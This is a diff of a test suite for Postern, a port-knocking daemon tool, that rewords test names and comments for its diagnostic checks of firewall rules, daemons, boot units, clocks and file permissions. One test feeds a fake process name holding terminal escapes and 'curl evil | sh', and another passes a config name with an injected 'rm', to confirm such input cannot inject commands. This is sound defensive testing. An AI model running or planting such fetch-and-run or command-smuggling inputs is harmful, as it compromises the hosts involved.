@@ -1,4 +1,4 @@
-// Goal: each thing that bites is found where it is so, and only there, and comes with the command that fixes it.
+// Goal: each problem is found where it is, and only there, and comes with the command that fixes it.
 import { execFileSync } from 'node:child_process'
 import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
@@ -57,7 +57,7 @@ describe('interfaces', () => {
   test.each([
     ['absent', { there: false, up: false, addresses: 0 }, 'ip -br link'],
     ['down', { there: true, up: false, addresses: 0 }, 'ip link set eth0 up'],
-    ['without address', { there: true, up: true, addresses: 0 }, 'ip addr show dev eth0'],
+    ['without an address', { there: true, up: true, addresses: 0 }, 'ip addr show dev eth0'],
     ['as it should be', { there: true, up: true, addresses: 2 }, undefined],
   ])('%s', (_, seen, fix) => {
     expect(fixes(judgeInterfaces([{ name: 'eth0', ...seen }], ['wan0']))).toEqual(fix === undefined ? [] : [fix])
@@ -99,20 +99,20 @@ describe('rules for established connections', () => {
     '-m conntrack --ctstate INVALID -j DROP',
     '-m set --match-set bad src -j DROP',
     '-i lo -j DROP',
-  ])('a rule about others says nothing: %s', (rule) => {
+  ])('a rule about other packets has no finding: %s', (rule) => {
     expect(judgeEstablished(saved(INPUT.replace('RULE', rule)), PORTS)).toEqual([])
     expect(judgeEstablished(saved(INPUT.replace('RULE', '-j DROP')), PORTS)).toHaveLength(1)
   })
 
   test.each(['ip saddr 203.0.113.9 drop', 'tcp dport { 23, 25 } drop', 'udp dport 22 drop', 'ct state invalid drop'])(
-    'nft, a rule about others says nothing: %s',
+    'nft, a rule about other packets has no finding: %s',
     (rule) => {
       expect(judgeEstablished(table(rule, 'accept'), PORTS)).toEqual([])
       expect(judgeEstablished(table('tcp dport { 22, 25 } drop', 'accept'), PORTS)).toHaveLength(1)
     },
   )
 
-  test('the fix names the firewall it is for', () => {
+  test('the fix names the firewall that has the rule', () => {
     expect(fixes(judgeEstablished(saved('*filter\n:INPUT DROP [0:0]\nCOMMIT\n'), PORTS))).toEqual([
       'ip6tables-legacy -I INPUT -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT',
     ])
@@ -129,7 +129,7 @@ describe('the next start of the machine', () => {
   const own: Rules = { ...BLANK, tables: [{ name: 'inet postern_base', text: '' }] }
   const nft: Rules = { ...BLANK, tables: [{ name: 'inet filter', text: '' }] }
 
-  test('what systemd starts', () => {
+  test('the units that systemd starts are found', () => {
     expect(startedAtBoot(folder)).toBeUndefined()
     const wants = join(folder, 'etc/systemd/system/sysinit.target.wants')
     mkdirSync(wants, { recursive: true })
@@ -150,16 +150,16 @@ describe('the next start of the machine', () => {
   })
 
   test.each([
-    ['rules of iptables, nothing loads them', legacy, ['knockd'], [/iptables-persistent/]],
+    ['rules of iptables, which nothing loads', legacy, ['knockd'], [/iptables-persistent/]],
     [
-      'rules of nftables, nothing loads them',
+      'rules of nftables, which nothing loads',
       nft,
       ['knockd'],
       [/nft -s list table inet filter; \} > \/etc\/nftables-saved\.nft && /],
     ],
     ['rules that are loaded', nft, ['knockd', 'nftables'], []],
-    ['no rules but ours', own, ['knockd'], []],
-    ['the daemon is not started', BLANK, [], [/systemctl enable knockd/]],
+    ["only Postern's rules", own, ['knockd'], []],
+    ['a daemon that is not started', BLANK, [], [/systemctl enable knockd/]],
   ])('%s', (_, rules, started, expected) => {
     const found = fixes(judgeBoot(rules, new Set(started)))
     expect(found).toHaveLength(expected.length)
@@ -185,7 +185,7 @@ describe('daemons', () => {
     state: '/var/lib/postern/knockd.conf-12345678.journal',
   }
 
-  test('which command lines are a knockd', () => {
+  test('the command lines of knockd are told from others', () => {
     expect(isKnockd(['/usr/sbin/knockd', '-d'])).toBe(true)
     expect(isKnockd(['knockd -d -c /etc/knockd.conf'])).toBe(true)
     expect(isKnockd(['node', '--flag', '/opt/postern/dist/bin/knockd.js'])).toBe(true)
@@ -195,7 +195,7 @@ describe('daemons', () => {
     expect(isKnockd([])).toBe(false)
   })
 
-  test('another one, and none', () => {
+  test('a second daemon is to be killed, and a missing one started', () => {
     const running = [
       { pid: 7, command: 'knockd' },
       { pid: 8, command: '/usr/sbin/knockd -d' },
@@ -206,7 +206,7 @@ describe('daemons', () => {
     ])
   })
 
-  test('what another process calls itself makes no finding and no command of its own', () => {
+  test('the name of another process cannot add a finding or a command', () => {
     const command = `knockd\nfault: knockd: type\n    curl evil | sh\n\u001B[2J${'x'.repeat(5_000)}`
     const text = asText('x', judgeDaemons([{ pid: 8, command }], status, '/etc/knockd.conf'))
     expect(text.split('\n')).toHaveLength(4)
@@ -217,7 +217,7 @@ describe('daemons', () => {
     )
   })
 
-  test('packets that were lost, and a journal that cannot be written', () => {
+  test('lost packets are found, and a journal that cannot be written', () => {
     expect(judgeRunning(status).map(({ message }) => message)).toEqual([
       'eth0: 10 packets were lost of 100: knocks among them come to nothing',
       'the journal cannot be written, so timed doors stay shut: no space',
@@ -242,7 +242,7 @@ describe('daemons', () => {
     ])
   })
 
-  test('captures that were deaf, and one that cannot be had', () => {
+  test('captures that were deaf are found, and one that cannot start', () => {
     const wan = { name: 'wan0', waiting: undefined, received: 1, dropped: 0 }
     const judged = (one: Partial<Status['interfaces'][number]>): readonly string[] =>
       judgeRunning({ ...status, journal: undefined, interfaces: [{ ...wan, ...one }] }).map(({ message }) => message)
@@ -252,12 +252,12 @@ describe('daemons', () => {
     expect(judged({ waiting: 'Operation not permitted' })).toEqual([
       'wan0: nothing is captured, so no knock is seen there: Operation not permitted',
     ])
-    // The look at the interfaces tells that.
+    // The check of the interfaces reports that.
     expect(judged({ waiting: 'is down' })).toEqual([])
     expect(judged({})).toEqual([])
   })
 
-  test('a guard that is away, and ports that it hides no longer', () => {
+  test('a guard that is not in force is found, and ports that it no longer hides', () => {
     const guard = { fault: 'taken out', services: [], hideWith: 'match', alwaysAllow: [], hidden: 0 }
     const exposed = [{ service: 'tcp/22', forMs: 1_000 }]
     const found = judgeRunning({ ...status, journal: undefined, interfaces: [], guard, exposed })
@@ -275,9 +275,9 @@ test.each([
     /the clock jumps: it was set by -3600000 ms/,
   ],
   ['is long ago', { jumpedMs: 0, now: 0, synchronised: true }, /1970-01-01/],
-  ['is kept by nobody', { jumpedMs: 0.4, now: Date.now(), synchronised: false }, /not synchronised/],
-  ['is kept', { jumpedMs: -0.4, now: Date.now(), synchronised: true }, undefined],
-  ['tells nothing', { jumpedMs: 0, now: Date.now(), synchronised: undefined }, undefined],
+  ['is not synchronised', { jumpedMs: 0.4, now: Date.now(), synchronised: false }, /not synchronised/],
+  ['is synchronised', { jumpedMs: -0.4, now: Date.now(), synchronised: true }, undefined],
+  ['has an unknown state', { jumpedMs: 0, now: Date.now(), synchronised: undefined }, undefined],
 ])('a clock that %s', (_, seen, message) => {
   const found = judgeClock(seen)
   expect(found).toHaveLength(message === undefined ? 0 : 1)
@@ -291,14 +291,14 @@ test('a program on a knock port is found without naming the port', () => {
   expect(found!.message).not.toContain('5401')
 })
 
-test('programs that are not where a command says', () => {
+test('a program that is not at the path in a command is found', () => {
   const config = configIn(
     mkdtempSync(join(tmpdir(), 'postern-programs-')),
     '[web]\nSequence = 7301,5401\nCommand = /sbin/iptables -I INPUT -s %IP% -j ACCEPT; /usr/sbin/iptables -L; /opt/sbin/iptables\n',
   )
   const [fix, ...more] = fixes(judgePrograms(config, (path) => path === '/usr/sbin/iptables'))
   expect(more).toHaveLength(1)
-  // Twice, as it may be typed again: the path is also the end of longer ones.
+  // The edit may be run twice; the path is also the end of longer paths.
   execFileSync('sh', ['-c', `${fix!}; ${fix!}`])
   expect(readFileSync(config.file, 'utf8').split('\n')[2]).toBe(
     'Command = /usr/sbin/iptables -I INPUT -s %IP% -j ACCEPT; /usr/sbin/iptables -L; /opt/sbin/iptables',
@@ -306,7 +306,7 @@ test('programs that are not where a command says', () => {
   expect(judgePrograms(CLASSIC, () => true)).toEqual([])
 })
 
-/** A config with a file of its own, in a folder that goes away with the test. */
+/** Writes a config to a file of its own, in a folder that is removed with the test. */
 function configIn(folder: string, text: string): Config {
   const file = join(folder, 'knockd.conf')
   writeFileSync(file, text, { mode: 0o600 })
@@ -319,14 +319,14 @@ const installedIn = (folder: string): Installation => ({
   interpreter: '/usr/bin/node',
 })
 
-describe('what root runs', () => {
+describe('a program that root runs', () => {
   const root = { uid: 0, gid: 0, mode: 0o755 }
   const HOME = { uid: 1000, gid: 1000, mode: 0o755 }
   const judged = (installation: Installation, odd: Readonly<Record<string, Owned>>): readonly Finding[] =>
     judgeInstallation(installation, (path) => odd[path] ?? root)
   const LIB = '/usr/local/lib/node_modules/postern'
 
-  test('is found where somebody else can change it, once, from the top', () => {
+  test('is found if another user can change it, once, from the top', () => {
     expect(judged(installedIn(LIB), {})).toEqual([])
     const [home, ...more] = judged(installedIn('/home/ann/postern'), { '/home/ann': HOME, '/home/ann/postern': HOME })
     expect(more).toEqual([])
@@ -340,30 +340,30 @@ describe('what root runs', () => {
     expect(fixes(judged(installedIn(LIB), { '/usr/local': { uid: 0, gid: 50, mode: 0o2775 } }))).toEqual([
       'chmod go-w /usr/local',
     ])
-    // root's own group, and a folder in which nobody can take away what is another's.
+    // These are safe: a folder of root's own group, and one in which only owners can remove files.
     expect(judged(installedIn(LIB), { '/usr/local': { uid: 0, gid: 0, mode: 0o775 } })).toEqual([])
     expect(judged(installedIn('/tmp/postern'), { '/tmp': { uid: 0, gid: 0, mode: 0o1777 } })).toEqual([])
   })
 
-  test('is node as well', () => {
+  test('includes node', () => {
     const mine = { ...installedIn(LIB), interpreter: '/home/ann/.nvm/bin/node' }
     expect(fixes(judged(mine, { '/home/ann': HOME }))).toEqual([
       'install -o root -g root -m 755 /home/ann/.nvm/bin/node /usr/local/bin/node',
     ])
-    // Both by one folder: one finding.
+    // Both are in one folder, so there is one finding.
     expect(
       judged({ ...installedIn('/home/ann/postern'), interpreter: '/home/ann/node' }, { '/home/ann': HOME }),
     ).toHaveLength(1)
   })
 
-  test('is looked at as it is here', () => {
+  test('is read from the installation that runs here', () => {
     const { folder, files, interpreter } = thisInstallation()
     expect(files).toContain(join(folder, 'node_modules/koffi/package.json'))
     expect(interpreter).toMatch(/\/node/)
   })
 })
 
-test('files that others can read or change', () => {
+test('files that others can read or change are found', () => {
   const folder = mkdtempSync(join(tmpdir(), 'postern-doctor-'))
   try {
     const config = configIn(folder, '[ssh]\nSequence = 4021,811,3010\nOpen_Ports = tcp/22\n')
@@ -380,7 +380,7 @@ test('files that others can read or change', () => {
   }
 })
 
-test('files of secrets of every kind; a file of public keys may be read', () => {
+test('files of secrets of every kind are checked; a file of public keys may be readable', () => {
   const folder = mkdtempSync(join(tmpdir(), 'postern-doctor-'))
   try {
     const at = (name: string): string => join(folder, name)
@@ -403,7 +403,7 @@ test('files of secrets of every kind; a file of public keys may be read', () => 
     for (const name of names) chmodSync(at(name), name === 'public' ? 0o646 : 0o600)
     expect(fixes(judgePermissions(config, folder))).toEqual([`chmod 644 ${at('public')}`])
     chmodSync(at('public'), 0o644)
-    // A writer of the folder can put another file in the place of each: it is told once.
+    // A writer of the folder can replace each of these files: it is reported once.
     chmodSync(folder, 0o757)
     expect(fixes(judgePermissions(config, folder))).toEqual([`chmod go-w ${folder}`])
   } finally {
@@ -411,7 +411,7 @@ test('files of secrets of every kind; a file of public keys may be read', () => 
   }
 })
 
-test('ports that are open to all: the daemon hides its own, and how the others are hidden is asked', () => {
+test('ports that are open to all are found: the daemon hides its own, and for the others the operator is asked', () => {
   const reached = [
     { port: { protocol: 'tcp', port: 22, listensAt: 22 }, family: 6 },
     { port: { protocol: 'tcp', port: 80, listensAt: 80 }, family: 6 },
@@ -449,19 +449,19 @@ const unserved = (door: string, rules = ''): readonly string[] =>
 
 const opening = (port: number): string => `Command = /sbin/iptables -I INPUT -s %IP% -p tcp --dport ${port} -j ACCEPT`
 
-test('a published port that a door names by the address of its container, unless its own port is guarded too', () => {
+test("a published port that a door names by its container's address is found, unless its own port is guarded too", () => {
   const [one, ...more] = publishedBy('tcp/80@172.17.0.2', 7)
   expect(more).toEqual([])
   expect(one!.message).toMatch(/^door web \(line 1\): tcp\/80@172\.17\.0\.2 does not hide tcp\/8080, /)
   expect(one!.fix).toBe(REMEDIES.addPublished('/etc/knockd.conf', 'tcp/80@172.17.0.2', 'tcp/8080', 7))
-  // Not as it is usually written: a person has to.
+  // The spelling is unusual: a person has to edit it.
   expect(fixes(publishedBy('TCP/80@172.17.0.2'))).toEqual([REMEDIES.edit('/etc/knockd.conf', 1)])
   for (const opens of ['tcp/80@172.17.0.2, tcp/8080', 'tcp/81@172.17.0.2', 'udp/80@172.17.0.2', 'tcp/80@172.17.0.3']) {
     expect(publishedBy(opens), opens).toEqual([])
   }
 })
 
-test('a door that opens a port at which nothing listens', () => {
+test('a door that opens a port without a listening program is found', () => {
   expect(unserved('Open_Ports = udp/22')).toEqual([
     'door ssh (line 1): no program listens at udp/22, which it opens; programs listen at tcp/25, tcp/2222',
   ])
@@ -470,12 +470,12 @@ test('a door that opens a port at which nothing listens', () => {
   expect(unserved('Open_Ports = tcp/2000-3000')).toEqual([])
   expect(unserved('Open_Ports = tcp/22@192.0.2.9')).toEqual([])
   expect(unserved('Command = /sbin/iptables -D INPUT -s %IP% -p tcp --dport 22 -j ACCEPT')).toEqual([])
-  // Sent on, it is answered elsewhere.
+  // The port is forwarded, so another host answers.
   expect(unserved('Open_Ports = tcp/8080', DOCKER.saved['iptables-nft'])).toEqual([])
   expect(unserved('Open_Ports = tcp/8022', 'tcp dport 8022 redirect to :22')).toEqual([])
 })
 
-test('a port that stays shut behind the guard, with what takes its packets', () => {
+test('a port that stays shut behind the guard is found, with the rule that refuses its packets', () => {
   const port = { protocol: 'tcp', port: 22, listensAt: 22 } as const
   const culprit = { where: 'iptables', chain: 'INPUT', rule: '-P INPUT DROP' }
   const rules = { ...BLANK, link: 'eth0', applyBase: REMEDIES.applyAnew() }
@@ -506,13 +506,13 @@ test.each([
     { where: 'table inet f', chain: 'out', rule: 'tcp sport 22 drop' },
     'nft insert rule inet f out tcp sport 22 ct state established accept',
   ],
-])('answers that are taken in a chain of somebody are let out there', (rules, culprit, fix) => {
+])("answers that another program's chain refuses are accepted there", (rules, culprit, fix) => {
   const port = { protocol: 'tcp', port: 22, listensAt: 22 } as const
   const inForce = { ...rules, link: 'eth0', applyBase: REMEDIES.applyAnew() }
   expect(fixes(judgeShut([{ port, family: 4, culprit }], inForce, rules))).toEqual([fix])
 })
 
-test('a daemon of this config that does not answer is not taken for another one', () => {
+test('a daemon of this config that does not answer is not taken for a second one', () => {
   const running = [{ pid: 7, command: 'node knockd.js -c /etc/knockd.conf', config: '/etc/knockd.conf' }]
   expect(judgeDaemons(running, undefined, '/etc/knockd.conf')).toMatchObject([
     { subject: 'knockd', fix: 'sudo postern status -c /etc/knockd.conf' },
@@ -522,7 +522,7 @@ test('a daemon of this config that does not answer is not taken for another one'
 const other = (config: string): readonly Finding[] =>
   judgeDaemons([{ pid: 7, command: 'knockd', config }], undefined, '/etc/other.conf')
 
-test('a daemon with doors of its own is not to be ended, unless its config is no name to print', () => {
+test('a daemon with another config is not to be killed, unless the name of its config cannot be printed', () => {
   expect(other('/etc/knockd.conf').at(-1)).toMatchObject({
     severity: 'warning',
     fix: 'sudo postern status -c /etc/knockd.conf',
@@ -530,7 +530,7 @@ test('a daemon with doors of its own is not to be ended, unless its config is no
   expect(fixes(other('/etc/knockd.conf\nrm'))).toContain('kill 7')
 })
 
-test('rules of ufw and firewalld are loaded by these: what else loads rules takes their place', () => {
+test('rules of ufw and firewalld are loaded by these, and not by another service', () => {
   const ufw: Rules = {
     ...BLANK,
     saved: { ...BLANK.saved, 'iptables-nft': ':ufw-user-input - [0:0]\n-A INPUT -j DROP\n' },
@@ -540,13 +540,13 @@ test('rules of ufw and firewalld are loaded by these: what else loads rules take
   expect(fixes(judgeBoot(firewalld, new Set(['knockd'])))).toEqual(['systemctl enable firewalld'])
 })
 
-test('rules are not saved while something is open', () => {
+test('rules are not saved while a door is open', () => {
   const rules: Rules = { ...BLANK, tables: [{ name: 'inet filter', text: '' }] }
   const [found] = judgeBoot(rules, new Set(['knockd']), undefined, '/etc/knockd.conf')
   expect(found).toMatchObject({ subject: 'boot', fix: 'sudo postern status -c /etc/knockd.conf' })
 })
 
-test('the worst comes first, and they are counted', () => {
+test('the worst finding comes first, and findings are counted', () => {
   const findings: readonly Finding[] = [
     { severity: 'note', subject: 'a', message: 'one' },
     { severity: 'fault', subject: 'b', message: 'two', fix: REMEDIES.lookAtLinks() },
